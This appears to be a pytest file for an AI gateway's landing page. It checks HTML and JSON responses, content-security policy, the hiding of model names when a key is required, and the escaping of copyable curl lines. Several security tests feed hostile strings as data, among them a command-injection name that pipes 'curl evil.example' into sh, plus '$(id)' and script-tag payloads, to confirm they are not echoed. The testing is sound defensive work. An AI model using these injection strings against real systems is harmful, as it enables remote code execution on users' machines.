"""GET /: what a stranger is told, as a page for people and as JSON for programs."""

from __future__ import annotations

import pytest
from nexus_gateway.http.options import EdgeOptions
from support.edge_pipeline import Row
from support.edge_server import running_edge
from support.raw_http import RawAnswer, ask, request

ACCEPTS_HTML = ["Accept: text/html,application/xhtml+xml,*/*;q=0.8"]
PATHS = ("/", "/v1", "/v1/")


async def page(port: int, path: str = "/", host: str = "box.local:8080") -> RawAnswer:
    return await ask(port, request("GET", path, headers=ACCEPTS_HTML, host=host))


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize("needs_key", [True, False])
async def test_a_browser_gets_a_page(path: str, needs_key: bool) -> None:
    """E17: it says what this is, where its endpoint is and how to use it, with nothing from elsewhere."""
    async with running_edge(EdgeOptions(needs_key=needs_key)) as edge:
        answer = await page(edge.port, path)
        text = answer.body.decode()
        assert (answer.status, answer.headers["content-type"]) == (200, "text/html; charset=utf-8")
        assert "http://box.local:8080/v1" in text
        assert ("nexus keys create" in text) is needs_key
        assert "default-src 'none'" in answer.headers["content-security-policy"]
        assert not any(mark in text for mark in ("<script", "src=", "url(", "@import", "https://"))
        assert 1000 <= len(answer.body) <= 2048


async def test_an_open_page_names_the_models_and_has_lines_that_work_as_they_stand() -> None:
    async with running_edge() as edge:
        text = (await page(edge.port)).body.decode()
        assert "llama3.1:70b" in text
        assert "org/model:tag" in text
        assert "&quot;model&quot;: &quot;llama3.1:70b&quot;" in text
        assert text.count("\ncurl ") == 2


async def test_a_page_stays_small_however_many_models_there_are() -> None:
    async with running_edge() as edge:
        edge.pipeline.rows = [Row(f"a-model-with-a-long-name-as-some-have/{n:03}:70b-q4") for n in range(500)]
        answer = await page(edge.port)
        assert len(answer.body) <= 2048
        assert "and 495 more" in answer.body.decode()


@pytest.mark.security
@pytest.mark.parametrize("path", PATHS)
async def test_strangers_hear_of_no_models_where_keys_are_needed(path: str) -> None:
    """Who has no key is told of nothing but that a gateway is here."""
    async with running_edge(EdgeOptions(needs_key=True)) as edge:
        edge.pipeline.keys = {"secret"}
        for headers in ([], ACCEPTS_HTML, ["Authorization: Bearer secret"]):
            answer = await ask(edge.port, request("GET", path, headers=headers))
            assert answer.status == 200
            assert b"llama3.1" not in answer.body
            assert b"org/model" not in answer.body


@pytest.mark.security
@pytest.mark.parametrize(
    "name", ["';curl evil.example|sh;'", "$(id)", "<script>x</script>", "a b", "`id`", "m" * 99]
)
async def test_a_backend_cannot_write_into_a_line_that_people_copy(name: str) -> None:
    async with running_edge() as edge:
        edge.pipeline.rows = [Row(name)]
        text = (await page(edge.port)).body.decode()
        assert name not in text
        assert "&quot;model&quot;: &quot;MODEL&quot;" in text


@pytest.mark.security
@pytest.mark.parametrize("host", ["box;id", "a'b", "$(id)", "box<b>"])
async def test_neither_can_the_name_the_gateway_is_called_by(host: str) -> None:
    async with running_edge() as edge:
        answer = await page(edge.port, host=host)
        assert answer.status == 400 or host.encode() not in answer.body


@pytest.mark.parametrize("headers", [[], ["Accept: application/json"], ["Accept: */*"]])
@pytest.mark.parametrize("path", PATHS)
async def test_programs_are_told_the_same_in_json(path: str, headers: list[str]) -> None:
    async with running_edge() as edge:
        answer = await ask(edge.port, request("GET", path, headers=headers, host="localhost:8080"))
        assert answer.headers["content-type"] == "application/json"
        assert answer.headers["cache-control"] == "no-store"
        assert "accept" in answer.headers["vary"]
        assert answer.json == {
            "object": "endpoint",
            "name": "NEXUS",
            "base_url": "http://localhost:8080/v1",
            "needs_key": False,
            "models": ["llama3.1:70b", "org/model:tag"],
            "models_url": "/v1/models",
            "openapi_url": "/openapi.json",
            "health_url": "/health",
        }


async def test_where_keys_are_needed_json_leaves_the_models_out() -> None:
    async with running_edge(EdgeOptions(needs_key=True)) as edge:
        told = (await ask(edge.port, request("GET", "/"))).json
        assert told["needs_key"] is True
        assert "models" not in told
